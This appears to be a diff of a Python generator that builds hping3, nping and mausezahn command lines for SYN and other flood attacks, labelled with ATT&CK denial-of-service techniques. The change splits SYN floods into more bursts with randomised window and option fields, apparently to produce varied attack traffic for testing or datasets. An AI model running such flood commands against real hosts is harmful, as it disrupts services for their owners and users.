@@ -10,7 +10,8 @@ ICMP, SYN, UDP, DNS, SLOW = "ICMP Flood", "SYN Flood", "UDP Flood", "DNS Flood",
 FLOOD, REFLECTED, EXHAUST, SERVICE = "T1498.001", "T1498", "T1499.001", "T1499.002"
 # A burst is one call of a tool; a flood is several, each with header fields of its own.
 BURSTS = 8
-WINDOWS = (64, 512, 1024, 5840, 8192, 29200, 65535)
+# A bare SYN has little to vary but its window, options and payload: many short bursts.
+SYN_BURSTS = 40
 LETTERS = "abcdefghijklmnopqrstuvwxyz0123456789"
 RATES = (150, 220, 300)
 # mausezahn waits whole milliseconds.
@@ -25,8 +26,8 @@ def _millis(rate: int) -> str:
     return f"{1000 // rate}msec"
 
 
-def _bursts(total: int) -> list[int]:
-    return [total // BURSTS] * BURSTS
+def _bursts(total: int, number: int = BURSTS) -> list[int]:
+    return [total // number] * number
 
 
 def _port(rng: random.Random) -> int:
@@ -71,15 +72,15 @@ def _hping_syn(target: Target, s: dict, rng: random.Random) -> Commands:
         options = {
             "none": "",
             "mss": f"--tcp-mss {rng.randrange(536, 1461)}",
-            "timestamp": "--tcp-timestamp",
+            "timestamp": f"--tcp-timestamp --tcp-mss {rng.randrange(536, 1461)}",
             "payload": f"-d {rng.randrange(8, 96)} -E {target.files}/random.bin",
         }[s["options"]]
         return words(
             f"hping3 -q -n -S -p {s['port']} -c {count} -i {_micros(s['rate'])} "
-            f"-w {rng.choice(WINDOWS)} {options} {target.address}"
+            f"-w {rng.randrange(64, 65536)} {options} {target.address}"
         )
 
-    return [burst(count) for count in _bursts(s["packets"])]
+    return [burst(count) for count in _bursts(s["packets"], SYN_BURSTS)]
 
 
 def _nping_syn(target: Target, s: dict, rng: random.Random) -> Commands:
@@ -89,7 +90,7 @@ def _nping_syn(target: Target, s: dict, rng: random.Random) -> Commands:
             f"--win {rng.randrange(1, 65536)} --rate {s['rate']} -c {count} "
             f"{f'--data-length {rng.randrange(1, 90)}' if s['payload'] else ''} {target.address}"
         )
-        for count in _bursts(s["packets"])
+        for count in _bursts(s["packets"], SYN_BURSTS)
     ]
 
 
@@ -100,7 +101,7 @@ def _mausezahn_syn(target: Target, s: dict, rng: random.Random) -> Commands:
             f"{f'-p {rng.randrange(1, 90)}' if s['payload'] else ''} "
             f"-t tcp flags=syn,dp={s['port']},sp={_port(rng)},win={rng.randrange(1, 65536)}"
         )
-        for count in _bursts(s["packets"])
+        for count in _bursts(s["packets"], SYN_BURSTS)
     ]
 
 
